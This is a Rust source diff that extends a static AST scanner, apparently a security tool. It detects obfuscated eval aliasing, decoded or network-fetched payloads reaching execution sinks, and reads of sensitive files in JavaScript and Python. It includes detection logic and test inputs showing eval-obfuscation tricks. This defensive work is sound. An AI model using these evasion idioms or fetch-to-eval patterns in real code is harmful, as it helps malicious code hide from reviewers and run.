@@ -12,18 +12,21 @@
 
 pub mod config;
 pub mod detectors;
+pub mod module_graph;
 pub mod rules;
 pub mod scope;
 
 pub use config::AstAnalyzerConfig;
 use detectors::DetectorSet;
+use module_graph::ModuleGraph;
 use rules::DangerousLists;
 use scope::{ResolvedValue, ScopeTracker};
 
-use crate::types::{Finding, ScanResult};
+use crate::adapters::DiscoveredComponent;
+use crate::types::{Confidence, Finding, ScanResult};
 use anyhow::Result;
 use std::path::Path;
-use std::sync::Arc;
+use std::sync::{Arc, RwLock};
 use std::time::Instant;
 use tree_sitter::{Node, Parser};
 
@@ -36,6 +39,39 @@ pub struct AstAnalyzer {
     config: AstAnalyzerConfig,
     detectors: DetectorSet,
     lists: Arc<DangerousLists>,
+    /// Project-level graph of dangerous-function re-exports, rebuilt once per
+    /// scan by [`Self::build_module_graph`]/[`Self::set_module_graph`] and
+    /// shared (via the same `Arc<RwLock<_>>`) with `CrossFileAliasDetector`.
+    module_graph: Arc<RwLock<Arc<ModuleGraph>>>,
+}
+
+/// Whether a tracked write is a fresh declaration (`let`/`const`/`var` in
+/// JS, always introduces a new name in the current scope) or a plain
+/// reassignment (`f = eval;`, Python's `f = eval`, `s += 'al'`). Bare
+/// block statements (`if`, loop bodies, ...) are pushed as scopes in this
+/// module's scope tracker even though they aren't real JS/Python scopes, so
+/// a reassignment must update the scope that already declared the name
+/// (see [`ScopeTracker::assign`]) rather than shadowing it, or the update
+/// would disappear the moment the block's scope is popped.
+#[derive(Clone, Copy)]
+enum BindingMode {
+    Declare,
+    Assign,
+}
+
+impl BindingMode {
+    fn write(
+        self,
+        scope_tracker: &mut ScopeTracker,
+        name: String,
+        value: ResolvedValue,
+        line: usize,
+    ) {
+        match self {
+            BindingMode::Declare => scope_tracker.add_binding(name, value, line),
+            BindingMode::Assign => scope_tracker.assign(&name, value, line),
+        }
+    }
 }
 
 impl AstAnalyzer {
@@ -47,15 +83,31 @@ impl AstAnalyzer {
     /// Create an AST analyzer with custom configuration.
     pub fn with_config(config: AstAnalyzerConfig) -> Result<Self> {
         let (rule_entries, lists) = rules::load_ast_rules()?;
-        let detectors = DetectorSet::from_rules(&rule_entries, lists.clone());
+        let module_graph = Arc::new(RwLock::new(Arc::new(ModuleGraph::empty())));
+        let detectors =
+            DetectorSet::from_rules(&rule_entries, lists.clone(), module_graph.clone())?;
 
         Ok(Self {
             config,
             detectors,
             lists,
+            module_graph,
         })
     }
 
+    /// Build the project-level module graph of dangerous-function
+    /// re-exports across `components`. Called once per scan, before
+    /// per-file analysis.
+    pub fn build_module_graph(&self, components: &[DiscoveredComponent]) -> ModuleGraph {
+        module_graph::build_module_graph(components, &self.lists)
+    }
+
+    /// Install a freshly-built module graph so subsequent `analyze_*` calls
+    /// see it via `CrossFileAliasDetector`.
+    pub fn set_module_graph(&self, graph: ModuleGraph) {
+        *self.module_graph.write().unwrap() = Arc::new(graph);
+    }
+
     /// Analyze a file and return findings.
     pub fn analyze_file(&self, path: &Path) -> Result<ScanResult> {
         let content = std::fs::read_to_string(path)?;
@@ -82,17 +134,22 @@ impl AstAnalyzer {
         let ext = path.extension().and_then(|e| e.to_str()).unwrap_or("");
 
         // Create only the parser needed for this file type (cheap: ~2μs)
-        let findings = match ext {
+        let mut findings = match ext {
             "js" | "mjs" | "cjs" | "jsx" if self.config.enable_javascript => {
                 let mut parser = Parser::new();
                 parser.set_language(&tree_sitter_javascript::LANGUAGE.into())?;
                 self.analyze_with_parser(&mut parser, content, path)?
             }
-            "ts" | "tsx" | "mts" | "cts" if self.config.enable_javascript => {
+            "ts" | "mts" | "cts" if self.config.enable_javascript => {
                 let mut parser = Parser::new();
                 parser.set_language(&tree_sitter_typescript::LANGUAGE_TYPESCRIPT.into())?;
                 self.analyze_with_parser(&mut parser, content, path)?
             }
+            "tsx" if self.config.enable_javascript => {
+                let mut parser = Parser::new();
+                parser.set_language(&tree_sitter_typescript::LANGUAGE_TSX.into())?;
+                self.analyze_with_parser(&mut parser, content, path)?
+            }
             "py" if self.config.enable_python => {
                 let mut parser = Parser::new();
                 parser.set_language(&tree_sitter_python::LANGUAGE.into())?;
@@ -101,6 +158,13 @@ impl AstAnalyzer {
             _ => Vec::new(),
         };
 
+        // AST detectors reason about actual program structure rather than
+        // matching text, so their findings carry higher confidence than a
+        // bare regex hit.
+        for finding in &mut findings {
+            finding.confidence = Confidence::High;
+        }
+
         result.findings = findings;
         result.scan_time_ms = start.elapsed().as_millis() as u64;
 
@@ -185,10 +249,113 @@ impl AstAnalyzer {
 
     /// Track variable bindings for aliasing detection.
     fn track_bindings(&self, node: Node, source: &str, scope_tracker: &mut ScopeTracker) {
-        // Handle variable declarations: const e = eval
-        if node.kind() == "variable_declarator" {
-            self.track_variable_declarator(node, source, scope_tracker);
+        match node.kind() {
+            // Handle variable declarations: const e = eval
+            "variable_declarator" => self.track_variable_declarator(node, source, scope_tracker),
+            // Handle JS reassignment: f = eval (no let/const/var keyword)
+            "assignment_expression" => {
+                self.track_js_assignment_expression(node, source, scope_tracker)
+            }
+            // Handle Python assignments: e = eval
+            "assignment" => self.track_python_assignment(node, source, scope_tracker),
+            // Handle JS string-building reassignment: s += 'al'
+            "augmented_assignment_expression" => {
+                self.track_js_augmented_assignment(node, source, scope_tracker)
+            }
+            _ => {}
+        }
+    }
+
+    /// Track `name += expr` so a string built up across multiple statements
+    /// (`let s = 'ev'; s += 'al'; window[s](x)`) still resolves to a
+    /// constant when a later statement reads it. Only `+=` on a plain
+    /// identifier whose current value and right-hand side are both
+    /// statically known strings is tracked; anything else invalidates the
+    /// binding to `Unknown` rather than risk resolving to a stale value.
+    fn track_js_augmented_assignment(
+        &self,
+        node: Node,
+        source: &str,
+        scope_tracker: &mut ScopeTracker,
+    ) {
+        let Some(left) = node.child_by_field_name("left") else {
+            return;
+        };
+        if left.kind() != "identifier" {
+            return;
         }
+        let Ok(name) = left.utf8_text(source.as_bytes()) else {
+            return;
+        };
+        let Some(operator) = node.child_by_field_name("operator") else {
+            return;
+        };
+        if operator.utf8_text(source.as_bytes()) != Ok("+=") {
+            return;
+        }
+        let Some(right) = node.child_by_field_name("right") else {
+            return;
+        };
+
+        let line = node.start_position().row + 1;
+        let current = match scope_tracker.resolve(name) {
+            ResolvedValue::StringLiteral(s) => Some(s),
+            _ => None,
+        };
+        let addition = resolve_js_string_expr(right, source, scope_tracker, 0);
+
+        match (current, addition) {
+            (Some(current), Some(addition)) => {
+                scope_tracker.assign(
+                    name,
+                    ResolvedValue::StringLiteral(format!("{current}{addition}")),
+                    line,
+                );
+            }
+            _ => {
+                scope_tracker.assign(name, ResolvedValue::Unknown, line);
+            }
+        }
+    }
+
+    /// Track a JS `name = value` reassignment (no `let`/`const`/`var`
+    /// keyword). Shares the same right-hand-side dispatch as
+    /// [`Self::track_variable_declarator`], but writes through
+    /// [`ScopeTracker::assign`] rather than [`ScopeTracker::add_binding`] so
+    /// the update lands on whichever scope originally declared the name
+    /// instead of shadowing it — see [`ScopeTracker::assign`] for why that
+    /// distinction matters once block scopes are involved.
+    fn track_js_assignment_expression(
+        &self,
+        node: Node,
+        source: &str,
+        scope_tracker: &mut ScopeTracker,
+    ) {
+        let Some(left) = node.child_by_field_name("left") else {
+            return;
+        };
+        // Only simple identifier targets are tracked; destructuring and
+        // member-expression targets (`obj.prop = x`) are untracked, matching
+        // `track_variable_declarator`'s "simple identifier names for now"
+        // scope.
+        if left.kind() != "identifier" {
+            return;
+        }
+        let Ok(name) = left.utf8_text(source.as_bytes()) else {
+            return;
+        };
+        let Some(right) = node.child_by_field_name("right") else {
+            return;
+        };
+
+        self.track_js_value_binding(
+            name.to_string(),
+            right,
+            source,
+            node.start_position().row + 1,
+            scope_tracker,
+            BindingMode::Assign,
+        );
     }
 
     /// Track a variable declarator node.
@@ -204,9 +371,13 @@ impl AstAnalyzer {
             None => return,
         };
 
+        if name_node.kind() == "object_pattern" {
+            self.track_destructured_require(name_node, node, source, scope_tracker);
+            return;
+        }
+
         // Only handle simple identifier names for now
         if name_node.kind() != "identifier" {
-            // Object patterns (destructuring) are handled by DestructuredAliasDetector
             return;
         }
 
@@ -223,7 +394,30 @@ impl AstAnalyzer {
 
         let line = node.start_position().row + 1;
 
-        // Determine what the variable points to
+        self.track_js_value_binding(
+            name,
+            value_node,
+            source,
+            line,
+            scope_tracker,
+            BindingMode::Declare,
+        );
+    }
+
+    /// Dispatch a JS/TS value node to the binding it represents, shared by
+    /// both a declaration (`const x = ...`) and a plain reassignment
+    /// (`x = ...`). `mode` decides whether the write shadows in the current
+    /// scope or updates the scope that already declared `name` (see
+    /// [`ScopeTracker::assign`]).
+    fn track_js_value_binding(
+        &self,
+        name: String,
+        value_node: Node,
+        source: &str,
+        line: usize,
+        scope_tracker: &mut ScopeTracker,
+        mode: BindingMode,
+    ) {
         match value_node.kind() {
             "identifier" => {
                 let value_name = match value_node.utf8_text(source.as_bytes()) {
@@ -232,13 +426,15 @@ impl AstAnalyzer {
                 };
 
                 if self.lists.is_dangerous_function(value_name) {
-                    scope_tracker.add_binding(
+                    mode.write(
+                        scope_tracker,
                         name,
                         ResolvedValue::DangerousFunction(value_name.to_string()),
                         line,
                     );
                 } else {
-                    scope_tracker.add_binding(
+                    mode.write(
+                        scope_tracker,
                         name,
                         ResolvedValue::Alias(value_name.to_string()),
                         line,
@@ -246,11 +442,144 @@ impl AstAnalyzer {
                 }
             }
             "call_expression" => {
-                // Check for require() calls
-                self.track_require_binding(name, value_node, source, line, scope_tracker);
+                self.track_js_call_binding(name, value_node, source, line, scope_tracker, mode);
+            }
+            "member_expression" => {
+                let resolved = resolve_remote_data_source(value_node, source, scope_tracker, 0)
+                    .map(ResolvedValue::RemoteData)
+                    .unwrap_or(ResolvedValue::Unknown);
+                mode.write(scope_tracker, name, resolved, line);
+            }
+            "await_expression" => {
+                self.track_awaited_value(name, value_node, source, line, scope_tracker, mode);
+            }
+            "string" => {
+                let resolved = match string_literal_value(value_node, source) {
+                    Some(literal) => ResolvedValue::StringLiteral(literal),
+                    None => ResolvedValue::Unknown,
+                };
+                mode.write(scope_tracker, name, resolved, line);
+            }
+            "array" => {
+                let mut cursor = value_node.walk();
+                let elements: Option<Vec<String>> = value_node
+                    .named_children(&mut cursor)
+                    .map(|el| string_literal_value(el, source))
+                    .collect();
+                let resolved = match elements {
+                    Some(items) => ResolvedValue::StringArray(items),
+                    None => ResolvedValue::Unknown,
+                };
+                mode.write(scope_tracker, name, resolved, line);
+            }
+            _ => {
+                mode.write(scope_tracker, name, ResolvedValue::Unknown, line);
+            }
+        }
+    }
+
+    /// Dispatch a JS/TS `name = call(...)` binding: `require()` calls are
+    /// tracked as module imports, `fetch(...)`/`axios.get(...)`/`https.get(...)`
+    /// are tracked as pending network responses, their body accessors
+    /// (`res.text()`/`res.json()`) are tracked as remote data, and everything
+    /// else is checked against known decode/decompress helpers (`atob`,
+    /// `Buffer.from(x, 'base64')`, `TextDecoder`) so a later
+    /// `eval`/`Function`/`vm.*` sink can be traced back to where its payload
+    /// came from.
+    fn track_js_call_binding(
+        &self,
+        name: String,
+        call_node: Node,
+        source: &str,
+        line: usize,
+        scope_tracker: &mut ScopeTracker,
+        mode: BindingMode,
+    ) {
+        let is_require = call_node
+            .child_by_field_name("function")
+            .filter(|f| f.kind() == "identifier")
+            .and_then(|f| f.utf8_text(source.as_bytes()).ok())
+            == Some("require");
+
+        if is_require {
+            self.track_require_binding(name, call_node, source, line, scope_tracker, mode);
+            return;
+        }
+
+        if let Some(response_source) = js_remote_fetch_source(call_node, source) {
+            mode.write(
+                scope_tracker,
+                name,
+                ResolvedValue::RemoteResponse(response_source),
+                line,
+            );
+            return;
+        }
+
+        if let Some(pattern_id) =
+            resolve_sensitive_file_source(call_node, source, scope_tracker, &self.lists, 0)
+        {
+            mode.write(
+                scope_tracker,
+                name,
+                ResolvedValue::SensitiveFileData(pattern_id),
+                line,
+            );
+            return;
+        }
+
+        if let Some(remote_data) = resolve_remote_data_source(call_node, source, scope_tracker, 0) {
+            mode.write(
+                scope_tracker,
+                name,
+                ResolvedValue::RemoteData(remote_data),
+                line,
+            );
+            return;
+        }
+
+        if let Some(decode_source) = js_decode_source(call_node, source)
+            .filter(|dotted| self.lists.is_decode_function(dotted))
+        {
+            mode.write(
+                scope_tracker,
+                name,
+                ResolvedValue::DecodedData(decode_source),
+                line,
+            );
+        }
+    }
+
+    /// Track a `name = await <expr>` binding by unwrapping the `await` and
+    /// delegating to whichever handler matches the inner expression, so a
+    /// chain like `const res = await fetch(url); const body = await res.text();`
+    /// is tracked the same as its synchronous equivalent.
+    fn track_awaited_value(
+        &self,
+        name: String,
+        await_node: Node,
+        source: &str,
+        line: usize,
+        scope_tracker: &mut ScopeTracker,
+        mode: BindingMode,
+    ) {
+        let Some(inner) = await_node.named_child(0) else {
+            mode.write(scope_tracker, name, ResolvedValue::Unknown, line);
+            return;
+        };
+
+        match inner.kind() {
+            "call_expression" => {
+                self.track_js_call_binding(name, inner, source, line, scope_tracker, mode);
+            }
+            "member_expression" => {
+                let resolved = resolve_remote_data_source(inner, source, scope_tracker, 0)
+                    .map(ResolvedValue::RemoteData)
+                    .unwrap_or(ResolvedValue::Unknown);
+                mode.write(scope_tracker, name, resolved, line);
             }
             _ => {
-                scope_tracker.add_binding(name, ResolvedValue::Unknown, line);
+                mode.write(scope_tracker, name, ResolvedValue::Unknown, line);
             }
         }
     }
@@ -263,6 +592,7 @@ impl AstAnalyzer {
         source: &str,
         line: usize,
         scope_tracker: &mut ScopeTracker,
+        mode: BindingMode,
     ) {
         let func = match call_node.child_by_field_name("function") {
             Some(f) => f,
@@ -306,7 +636,8 @@ impl AstAnalyzer {
             return;
         };
 
-        scope_tracker.add_binding(
+        mode.write(
+            scope_tracker,
             name,
             ResolvedValue::ImportResult {
                 module,
@@ -315,94 +646,1572 @@ impl AstAnalyzer {
             line,
         );
     }
-}
 
-impl Default for AstAnalyzer {
-    fn default() -> Self {
-        Self::new().expect("Failed to create default AST analyzer")
+    /// Track a destructured `require()` binding, e.g. `const { runInThisContext }
+    /// = require('vm')` or `const { runInThisContext: run } = require('vm')`.
+    /// Each destructured local name is bound to the module export it came
+    /// from, so a later call through that name can be traced back to it.
+    fn track_destructured_require(
+        &self,
+        pattern: Node,
+        declarator: Node,
+        source: &str,
+        scope_tracker: &mut ScopeTracker,
+    ) {
+        let value_node = match declarator.child_by_field_name("value") {
+            Some(v) => v,
+            None => return,
+        };
+        if value_node.kind() != "call_expression" {
+            return;
+        }
+        let func = match value_node.child_by_field_name("function") {
+            Some(f) => f,
+            None => return,
+        };
+        if func.kind() != "identifier" || func.utf8_text(source.as_bytes()) != Ok("require") {
+            return;
+        }
+        let args = match value_node.child_by_field_name("arguments") {
+            Some(a) => a,
+            None => return,
+        };
+        let first_arg = match args.named_child(0) {
+            Some(a) => a,
+            None => return,
+        };
+        let module = match string_literal_value(first_arg, source) {
+            Some(m) => m,
+            None => return,
+        };
+
+        let line = declarator.start_position().row + 1;
+        let mut cursor = pattern.walk();
+        for child in pattern.named_children(&mut cursor) {
+            match child.kind() {
+                "shorthand_property_identifier_pattern" => {
+                    let Ok(export_name) = child.utf8_text(source.as_bytes()) else {
+                        continue;
+                    };
+                    scope_tracker.add_binding(
+                        export_name.to_string(),
+                        ResolvedValue::ImportResult {
+                            module: module.clone(),
+                            export: Some(export_name.to_string()),
+                        },
+                        line,
+                    );
+                }
+                "pair_pattern" => {
+                    let (Some(key), Some(local)) = (
+                        child.child_by_field_name("key"),
+                        child.child_by_field_name("value"),
+                    ) else {
+                        continue;
+                    };
+                    let (Ok(export_name), Ok(local_name)) = (
+                        key.utf8_text(source.as_bytes()),
+                        local.utf8_text(source.as_bytes()),
+                    ) else {
+                        continue;
+                    };
+                    scope_tracker.add_binding(
+                        local_name.to_string(),
+                        ResolvedValue::ImportResult {
+                            module: module.clone(),
+                            export: Some(export_name.to_string()),
+                        },
+                        line,
+                    );
+                }
+                _ => {}
+            }
+        }
     }
-}
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-    use std::io::Write;
-    use tempfile::NamedTempFile;
+    /// Track a Python `name = value` assignment.
+    ///
+    /// Python has no separate declaration syntax, so every assignment (even
+    /// the first one) is written through [`ScopeTracker::assign`] rather
+    /// than [`ScopeTracker::add_binding`]: `block` nodes are pushed as
+    /// scopes for `if`/`for`/`while` bodies just like function bodies, so an
+    /// `add_binding` write inside one of those blocks would vanish once its
+    /// scope popped even though the name is still in scope afterward under
+    /// real Python (function-level) scoping rules.
+    fn track_python_assignment(&self, node: Node, source: &str, scope_tracker: &mut ScopeTracker) {
+        let name_node = match node.child_by_field_name("left") {
+            Some(n) => n,
+            None => return,
+        };
 
-    fn create_temp_file(content: &str, ext: &str) -> NamedTempFile {
-        let mut file = tempfile::Builder::new().suffix(ext).tempfile().unwrap();
-        writeln!(file, "{}", content).unwrap();
-        file
-    }
+        // Only handle simple identifier targets; tuple/attribute targets are untracked.
+        if name_node.kind() != "identifier" {
+            return;
+        }
 
-    #[test]
-    fn test_computed_access_detection() {
-        let mut analyzer = AstAnalyzer::new().unwrap();
-        let file = create_temp_file("window['eval']('alert(1)')", ".js");
+        let name = match name_node.utf8_text(source.as_bytes()) {
+            Ok(text) => text.to_string(),
+            Err(_) => return,
+        };
 
-        let result = analyzer.analyze_file(file.path()).unwrap();
-        assert!(!result.findings.is_empty());
-        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-001"));
-    }
+        let value_node = match node.child_by_field_name("right") {
+            Some(v) => v,
+            None => return,
+        };
 
-    #[test]
-    fn test_variable_aliasing_detection() {
-        let mut analyzer = AstAnalyzer::new().unwrap();
-        let file = create_temp_file(
-            r#"
-            const e = eval;
-            e('alert(1)');
-            "#,
-            ".js",
-        );
+        let line = node.start_position().row + 1;
 
-        let result = analyzer.analyze_file(file.path()).unwrap();
-        assert!(!result.findings.is_empty());
-        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-002"));
+        match value_node.kind() {
+            "identifier" => {
+                let value_name = match value_node.utf8_text(source.as_bytes()) {
+                    Ok(text) => text,
+                    Err(_) => return,
+                };
+
+                if self.lists.is_dangerous_function(value_name) {
+                    scope_tracker.assign(
+                        &name,
+                        ResolvedValue::DangerousFunction(value_name.to_string()),
+                        line,
+                    );
+                } else {
+                    scope_tracker.assign(&name, ResolvedValue::Alias(value_name.to_string()), line);
+                }
+            }
+            "dictionary" => {
+                self.track_python_dict_bindings(&name, value_node, source, line, scope_tracker);
+            }
+            "call" => {
+                self.track_python_decode_call(name, value_node, source, line, scope_tracker);
+            }
+            _ => {
+                scope_tracker.assign(&name, ResolvedValue::Unknown, line);
+            }
+        }
     }
 
-    #[test]
-    fn test_string_concat_detection() {
-        let mut analyzer = AstAnalyzer::new().unwrap();
-        let file = create_temp_file("window['ev' + 'al']('alert(1)')", ".js");
+    /// Track `payload = base64.b64decode(data)` style calls, binding the
+    /// target variable to `ResolvedValue::DecodedData` when the callee is a
+    /// known decode/decompress function, so a later `exec`/`eval`/`compile`
+    /// sink can be traced back to it.
+    fn track_python_decode_call(
+        &self,
+        name: String,
+        call_node: Node,
+        source: &str,
+        line: usize,
+        scope_tracker: &mut ScopeTracker,
+    ) {
+        let value = call_node
+            .child_by_field_name("function")
+            .and_then(|callee| attribute_dotted_name(callee, source))
+            .filter(|dotted| self.lists.is_decode_function(dotted))
+            .map(ResolvedValue::DecodedData)
+            .unwrap_or(ResolvedValue::Unknown);
 
-        let result = analyzer.analyze_file(file.path()).unwrap();
-        assert!(!result.findings.is_empty());
-        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-003"));
+        scope_tracker.assign(&name, value, line);
     }
 
-    #[test]
-    fn test_comma_operator_detection() {
-        let mut analyzer = AstAnalyzer::new().unwrap();
-        let file = create_temp_file("(0, eval)('alert(1)')", ".js");
-
-        let result = analyzer.analyze_file(file.path()).unwrap();
+    /// Track a Python dict literal's entries so a later `name['key']` call
+    /// resolves like a direct variable, catching dangerous functions
+    /// dispatched through a lookup table, e.g.
+    /// `funcs = {'run': eval}; funcs['run'](payload)`.
+    fn track_python_dict_bindings(
+        &self,
+        dict_name: &str,
+        dict_node: Node,
+        source: &str,
+        line: usize,
+        scope_tracker: &mut ScopeTracker,
+    ) {
+        let mut cursor = dict_node.walk();
+        for pair in dict_node.named_children(&mut cursor) {
+            if pair.kind() != "pair" {
+                continue;
+            }
+
+            let (Some(key_node), Some(value_node)) = (
+                pair.child_by_field_name("key"),
+                pair.child_by_field_name("value"),
+            ) else {
+                continue;
+            };
+
+            let Some(key) = string_literal_value(key_node, source) else {
+                continue;
+            };
+
+            if value_node.kind() != "identifier" {
+                continue;
+            }
+
+            let value_name = match value_node.utf8_text(source.as_bytes()) {
+                Ok(text) => text,
+                Err(_) => continue,
+            };
+
+            if self.lists.is_dangerous_function(value_name) {
+                scope_tracker.add_binding(
+                    dict_subscript_key(dict_name, &key),
+                    ResolvedValue::DangerousFunction(value_name.to_string()),
+                    line,
+                );
+            }
+        }
+    }
+}
+
+/// Extract a string literal's inner text, stripping the surrounding quotes.
+pub(crate) fn string_literal_value(node: Node, source: &str) -> Option<String> {
+    if node.kind() != "string" {
+        return None;
+    }
+    let text = node.utf8_text(source.as_bytes()).ok()?;
+    if (text.starts_with('"') && text.ends_with('"'))
+        || (text.starts_with('\'') && text.ends_with('\''))
+    {
+        Some(text[1..text.len() - 1].to_string())
+    } else {
+        None
+    }
+}
+
+const MAX_JS_STRING_RESOLVE_DEPTH: usize = 10;
+
+/// Statically resolve a JS expression to a constant string: a plain string
+/// literal, `+` concatenation of resolvable operands, a parenthesized
+/// expression, or an identifier already tracked as a `StringLiteral` in the
+/// scope tracker. Used to fold string-building reassignments
+/// (`s += 'al'`) across statements.
+pub(crate) fn resolve_js_string_expr(
+    node: Node,
+    source: &str,
+    scope_tracker: &ScopeTracker,
+    depth: usize,
+) -> Option<String> {
+    if depth > MAX_JS_STRING_RESOLVE_DEPTH {
+        return None;
+    }
+    match node.kind() {
+        "string" => string_literal_value(node, source),
+        "identifier" => {
+            let name = node.utf8_text(source.as_bytes()).ok()?;
+            match scope_tracker.resolve(name) {
+                ResolvedValue::StringLiteral(s) => Some(s),
+                _ => None,
+            }
+        }
+        "binary_expression" => {
+            let operator = node.child_by_field_name("operator")?;
+            if operator.utf8_text(source.as_bytes()).ok()? != "+" {
+                return None;
+            }
+            let left = resolve_js_string_expr(
+                node.child_by_field_name("left")?,
+                source,
+                scope_tracker,
+                depth + 1,
+            )?;
+            let right = resolve_js_string_expr(
+                node.child_by_field_name("right")?,
+                source,
+                scope_tracker,
+                depth + 1,
+            )?;
+            Some(format!("{left}{right}"))
+        }
+        "parenthesized_expression" => {
+            resolve_js_string_expr(node.named_child(0)?, source, scope_tracker, depth + 1)
+        }
+        _ => None,
+    }
+}
+
+/// Synthetic binding name for a dict-literal entry, so `funcs['run']` can be
+/// resolved through the same scope tracker used for plain variable aliases.
+pub(crate) fn dict_subscript_key(dict_name: &str, key: &str) -> String {
+    format!("{dict_name}[{key}]")
+}
+
+/// Render a Python `attribute` node (e.g. `base64.b64decode`) as a dotted
+/// string, when the object is a simple identifier.
+pub(crate) fn attribute_dotted_name(node: Node, source: &str) -> Option<String> {
+    if node.kind() != "attribute" {
+        return None;
+    }
+    let object = node.child_by_field_name("object")?;
+    if object.kind() != "identifier" {
+        return None;
+    }
+    let attribute = node.child_by_field_name("attribute")?;
+    Some(format!(
+        "{}.{}",
+        object.utf8_text(source.as_bytes()).ok()?,
+        attribute.utf8_text(source.as_bytes()).ok()?
+    ))
+}
+
+/// Render a JS/TS `member_expression` node (e.g. `Buffer.from`) as a dotted
+/// string, when the object is a simple identifier.
+pub(crate) fn member_dotted_name(node: Node, source: &str) -> Option<String> {
+    if node.kind() != "member_expression" {
+        return None;
+    }
+    let object = node.child_by_field_name("object")?;
+    if object.kind() != "identifier" {
+        return None;
+    }
+    let property = node.child_by_field_name("property")?;
+    Some(format!(
+        "{}.{}",
+        object.utf8_text(source.as_bytes()).ok()?,
+        property.utf8_text(source.as_bytes()).ok()?
+    ))
+}
+
+/// Identify a JS/TS decode call and return its canonical dotted name for
+/// lookup against `DangerousLists::is_decode_function`: `atob(...)`,
+/// `Buffer.from(x, 'base64').toString()`, or `new TextDecoder().decode(...)`.
+pub(crate) fn js_decode_source(call_node: Node, source: &str) -> Option<String> {
+    let callee = call_node.child_by_field_name("function")?;
+    match callee.kind() {
+        "identifier" => {
+            let name = callee.utf8_text(source.as_bytes()).ok()?;
+            (name == "atob").then(|| name.to_string())
+        }
+        "member_expression" => {
+            let property = callee.child_by_field_name("property")?;
+            let property_name = property.utf8_text(source.as_bytes()).ok()?;
+            let object = callee.child_by_field_name("object")?;
+
+            match (property_name, object.kind()) {
+                ("toString", "call_expression") => {
+                    let inner_callee = object.child_by_field_name("function")?;
+                    (member_dotted_name(inner_callee, source)?.as_str() == "Buffer.from")
+                        .then(|| "Buffer.from".to_string())
+                }
+                ("decode", "new_expression") => {
+                    let ctor = object.child_by_field_name("constructor")?;
+                    (ctor.kind() == "identifier"
+                        && ctor.utf8_text(source.as_bytes()).ok()? == "TextDecoder")
+                        .then(|| "TextDecoder.decode".to_string())
+                }
+                _ => None,
+            }
+        }
+        _ => None,
+    }
+}
+
+/// Method names on a Fetch API `Response` that read the response body.
+const FETCH_BODY_METHODS: &[&str] = &["text", "json", "arrayBuffer"];
+
+/// Identify a JS/TS network call whose result is a pending response body:
+/// `fetch(url)`, `axios.get(url)`/`axios.post(url)`/etc, or `http.get(url)`/
+/// `https.get(url)`. Returns a description of the call for use in later
+/// finding messages.
+pub(crate) fn js_remote_fetch_source(call_node: Node, source: &str) -> Option<String> {
+    let callee = call_node.child_by_field_name("function")?;
+    match callee.kind() {
+        "identifier" => {
+            let name = callee.utf8_text(source.as_bytes()).ok()?;
+            (name == "fetch").then(|| name.to_string())
+        }
+        "member_expression" => {
+            let object = callee.child_by_field_name("object")?;
+            if object.kind() != "identifier" {
+                return None;
+            }
+            let object_name = object.utf8_text(source.as_bytes()).ok()?;
+            let property = callee.child_by_field_name("property")?;
+            let property_name = property.utf8_text(source.as_bytes()).ok()?;
+            match object_name {
+                "axios" => Some(format!("axios.{property_name}")),
+                "http" | "https" if property_name == "get" => Some(format!("{object_name}.get")),
+                _ => None,
+            }
+        }
+        _ => None,
+    }
+}
+
+/// Resolve `node` to the body of a previously-tracked network response,
+/// following `await`, a body-reading call (`res.text()`/`res.json()`), a
+/// `.data` property access (the axios convention), or a variable already
+/// bound to remote data. Used both to propagate the binding across
+/// statements and, directly, to resolve a sink's argument in one hop
+/// (`eval(res.data)`, `eval(await res.text())`).
+pub(crate) fn resolve_remote_data_source(
+    node: Node,
+    source: &str,
+    scope_tracker: &ScopeTracker,
+    depth: usize,
+) -> Option<String> {
+    if depth > 5 {
+        return None;
+    }
+
+    match node.kind() {
+        "identifier" => {
+            let name = node.utf8_text(source.as_bytes()).ok()?;
+            match scope_tracker.resolve(name) {
+                ResolvedValue::RemoteData(desc) => Some(desc),
+                _ => None,
+            }
+        }
+        "await_expression" => {
+            resolve_remote_data_source(node.named_child(0)?, source, scope_tracker, depth + 1)
+        }
+        "member_expression" => {
+            let property = node.child_by_field_name("property")?;
+            if property.utf8_text(source.as_bytes()).ok()? != "data" {
+                return None;
+            }
+            let object = node.child_by_field_name("object")?;
+            if object.kind() != "identifier" {
+                return None;
+            }
+            let object_name = object.utf8_text(source.as_bytes()).ok()?;
+            match scope_tracker.resolve(object_name) {
+                ResolvedValue::RemoteResponse(desc) => Some(format!("{desc}.data")),
+                _ => None,
+            }
+        }
+        "call_expression" => {
+            let callee = node.child_by_field_name("function")?;
+            if callee.kind() != "member_expression" {
+                return None;
+            }
+            let property = callee.child_by_field_name("property")?;
+            let property_name = property.utf8_text(source.as_bytes()).ok()?;
+            if !FETCH_BODY_METHODS.contains(&property_name) {
+                return None;
+            }
+            let object = callee.child_by_field_name("object")?;
+            if object.kind() != "identifier" {
+                return None;
+            }
+            let object_name = object.utf8_text(source.as_bytes()).ok()?;
+            match scope_tracker.resolve(object_name) {
+                ResolvedValue::RemoteResponse(desc) => {
+                    Some(format!("{desc} -> .{property_name}()"))
+                }
+                _ => None,
+            }
+        }
+        _ => None,
+    }
+}
+
+/// Resolve `node` to the contents of a known sensitive file, following
+/// `await` and matching `fs.readFileSync(path)`/`fs.readFile(path)`/
+/// `fs.promises.readFile(path)` (bare `fs`, or `fs` reached through an
+/// aliased `require('fs')`) whose resolved path matches one of
+/// `lists`'s sensitive-file patterns. Returns the matched pattern's id.
+pub(crate) fn resolve_sensitive_file_source(
+    node: Node,
+    source: &str,
+    scope_tracker: &ScopeTracker,
+    lists: &DangerousLists,
+    depth: usize,
+) -> Option<String> {
+    if depth > 5 {
+        return None;
+    }
+
+    match node.kind() {
+        "await_expression" => resolve_sensitive_file_source(
+            node.named_child(0)?,
+            source,
+            scope_tracker,
+            lists,
+            depth + 1,
+        ),
+        "call_expression" => {
+            let callee = node.child_by_field_name("function")?;
+            if callee.kind() != "member_expression" {
+                return None;
+            }
+            let property = callee.child_by_field_name("property")?;
+            let property_name = property.utf8_text(source.as_bytes()).ok()?;
+            if property_name != "readFileSync" && property_name != "readFile" {
+                return None;
+            }
+
+            let object = callee.child_by_field_name("object")?;
+            let is_fs_object = match object.kind() {
+                "identifier" => {
+                    let object_name = object.utf8_text(source.as_bytes()).ok()?;
+                    if object_name == "fs" {
+                        true
+                    } else if let ResolvedValue::ImportResult {
+                        module,
+                        export: None,
+                    } = scope_tracker.resolve(object_name)
+                    {
+                        module == "fs" || module == "node:fs"
+                    } else {
+                        false
+                    }
+                }
